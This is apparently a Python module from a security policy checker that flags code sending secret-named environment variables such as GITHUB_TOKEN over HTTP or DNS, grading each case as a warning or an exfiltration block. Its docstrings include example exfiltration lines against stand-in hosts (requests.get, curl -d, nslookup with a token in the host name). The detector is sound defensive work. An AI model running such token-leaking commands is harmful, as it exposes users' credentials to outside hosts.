"""A secret-named environment variable sent by interpreter code's network call.

``requests.get("https://e.example/?k=" + os.environ["GITHUB_TOKEN"])``, ``fetch(u, {body:
process.env.NPM_TOKEN})``, ``Net::HTTP.post_form(uri, "k" => ENV["API_KEY"])``: the code
spelling of ``curl -d "$GITHUB_TOKEN" URL``, judged by the same policy (``_outputs``,
``_hdrsecret``):

* the variable in a URL, a body, a query or a non-auth header warns
  (``shell.secret-in-request``): the name alone is a guess, and some APIs take a key in the
  query string;
* a signing secret that no service receives (``AWS_SECRET_ACCESS_KEY``, ``*_PRIVATE_KEY``:
  :func:`._exfil.never_sent`) sent anywhere, even in an auth header, blocks
  (``shell.exfiltration``);
* in an auth header (``headers={"Authorization": f"Bearer {os.environ['GITHUB_TOKEN']}"}``,
  ``auth=(user, key)``) it is how the API authenticates and passes, unless a well-known
  service's token goes to a host that is not its service's (``GITHUB_TOKEN`` to
  ``e.example``): warn, as ``curl -H "Authorization: token $GITHUB_TOKEN" e.example`` does;
* in a DNS look-up's host name (``socket.gethostbyname(os.environ["API_KEY"] + ".e.x")``)
  blocks, as ``nslookup "$TOKEN.e.example"`` does: no name server authenticates that way.

The variable counts directly inside the call or through a name bound to it (``t =
os.environ["GITHUB_TOKEN"]``) and one more assignment (``url = base + t``). Gated on a network
word and an environment word; bounded scans (at most 8 look-ups, 48 calls, 16 uses each).
"""

from __future__ import annotations

import bisect
import re

from ._code import literals
from ._codeenv import secret_lookups
from ._codesecrets import _AUTH_MARKS, _DATA_MARKS, _close, _data_header
from ._codesend import send_calls
from ._exfil import never_sent
from ._hdrsecret import _TOKEN_HOSTS, _host, _local
from ._langapi import _NET_GATE_RE, _statement_var
from ._values import secret_name

__all__ = ["token_sent"]

_MAX = 20000
# const {GITHUB_TOKEN, NPM_TOKEN: t} = process.env (bounded: at most 200 characters inside)
_DESTRUCTURE = re.compile(r"\{([\w \t,:$]{1,200})\}[ \t]*=[ \t]*process\.env(?![\w.\[])")


def _is_word(code: str, k: int, var: str) -> bool:
    """``var`` at ``k`` is a whole name (not an attribute, a longer name or a keyword)."""
    before = code[k - 1:k] if k else ""
    after = code[k + len(var):k + len(var) + 2]
    if before.isalnum() or before in ("_", ".", "'", '"'):
        return False
    if after[:1].isalnum() or after[:1] in ("_", "'", '"', "("):
        return False
    return not (after[:1] == "=" and after[1:2] != "=")  # f(tok=1): a keyword's name


def _in_text(spans: list[tuple[int, int]], code: str, k: int) -> bool:
    """``k`` is inside a string literal's plain text (not an interpolation: ``f"{t}"``,
    ``"${t}"``, ``"#{t}"``, perl's ``"$t"``)."""
    i = bisect.bisect_right(spans, (k, 1 << 62)) - 1
    return i >= 0 and spans[i][0] < k < spans[i][1] and code[k - 1:k] not in ("{", "$")


def _words(code: str, var: str, start: int, end: int,
           spans: list[tuple[int, int]]) -> list[int]:
    """Where ``var`` occurs as a whole name in ``code[start:end]``, outside literal text
    (at most 16)."""
    out: list[int] = []
    k = code.find(var, start, end)
    tries = 0
    while k != -1 and tries < 32 and len(out) < 16:
        tries += 1
        if _is_word(code, k, var) and not _in_text(spans, code, k):
            out.append(k)
        k = code.find(var, k + 1, end)
    return out


def _auth(code: str, floor: int, pos: int) -> bool:
    """The use at ``pos`` is an auth header's or credential's value (not sent data)."""
    window = code[max(floor, pos - 80):pos].lower()
    auth = max(window.rfind(m) for m in _AUTH_MARKS)
    data = max(window.rfind(m) for m in _DATA_MARKS)
    return auth != -1 and data < auth and not _data_header(window)


def _bindings(code: str, lookups: list[tuple[int, str]], calls: list[tuple[int, int]],
              spans: list[tuple[int, int]]) -> dict[str, str]:
    """Names bound to a look-up (``t = os.environ[..]``) and one assignment further; not
    the result of a call that sends it (``r = requests.get(u + t)``: ``r`` is a reply)."""
    names: dict[str, str] = _destructured(code) if "process.env" in code else {}
    for start, var in lookups:
        bound = _statement_var(code, start)
        if bound and len(bound) < 64 and not any(a < start < e for a, e in calls):
            names.setdefault(bound, var)
    for name, var in list(names.items()):
        for k in _words(code, name, 0, len(code), spans)[:8]:
            again = _statement_var(code, k)
            if again and again != name and len(again) < 64 and \
                    not any(a < k < e for a, e in calls):
                names.setdefault(again, var)
    return dict(sorted(names.items())[:32])  # bounded work per sending call


def _destructured(code: str) -> dict[str, str]:
    """Names a JavaScript destructuring binds to secret variables: ``const {GITHUB_TOKEN,
    NPM_TOKEN: t} = process.env`` binds ``GITHUB_TOKEN`` and ``t``."""
    names: dict[str, str] = {}
    for count, m in enumerate(_DESTRUCTURE.finditer(code)):
        if count >= 8:
            break
        for item in m.group(1).split(",")[:32]:
            var, _colon, alias = item.partition(":")
            var, alias = var.strip(), alias.strip() or var.strip()
            if var.isidentifier() and alias.isidentifier() and secret_name(var):
                names.setdefault(alias, var)
    return names


def _foreign(code: str, at: int, end: int, var: str) -> str | None:
    """A host the call (else the code) names that is not ``var``'s service's, or None."""
    own = _TOKEN_HOSTS.get(var.upper())
    if own is None:
        return None
    lits = literals(code, "`" in code)[:256]
    urls = [v[1:] for s, _e, v in lits if at < s < end and "://" in v]
    if not urls:
        urls = [v[1:] for _s, _e, v in lits if "://" in v]
    for url in urls:
        host = _host(url)
        if host and not _local(host) and not any(host == s or host.endswith("." + s)
                                                  for s in own):
            return host
    return None


def _judge(code: str, at: int, end: int, kind: str, var: str, pos: int
           ) -> tuple[str, str] | None:
    """The finding for ``var`` used at ``pos`` inside the call at ``at``..``end``."""
    if kind == "dns":
        return "shell.exfiltration", f"sends ${var} in a DNS look-up's host name"
    if never_sent(var):
        return "shell.exfiltration", f"sends the signing secret ${var}, which no service " \
            "receives"
    if not _auth(code, at, pos):
        return "shell.secret-in-request", f"sends ${var} outside an auth header"
    host = _foreign(code, at, end, var)
    if host is not None:
        return "shell.secret-in-request", f"sends ${var} to {host}, which is not its " \
            "service's host"
    return None


def token_sent(code: str) -> tuple[str, str] | None:
    """(rule id, what) when a secret-named environment variable reaches a network call's
    arguments in ``code`` (module doc); a block rule wins over a warning."""
    if len(code) > _MAX or ("env" not in code and "ENV" not in code and "Env" not in code) \
            or _NET_GATE_RE.search(code) is None:
        return None
    lookups = secret_lookups(code)
    if not lookups and "process.env" not in code:
        return None
    sends = [(at, stop if stop >= 0 else _close(code, at), kind)
             for at, stop, kind in send_calls(code)]
    spans = [(s, e) for s, e, _v in literals(code, "`" in code)[:512]]
    names = _bindings(code, lookups, [(a, e) for a, e, _k in sends], spans)
    found: tuple[str, str] | None = None
    for at, end, kind in sends:
        uses = [(pos, var) for pos, var in lookups if at < pos < end]
        for name, var in sorted(names.items()):
            uses += [(pos, var) for pos in _words(code, name, at + 1, end, spans)]
        for pos, var in uses:
            hit = _judge(code, at, end, kind, var, pos)
            if hit is not None and hit[0] == "shell.exfiltration":
                return hit
            found = found or hit
    return found
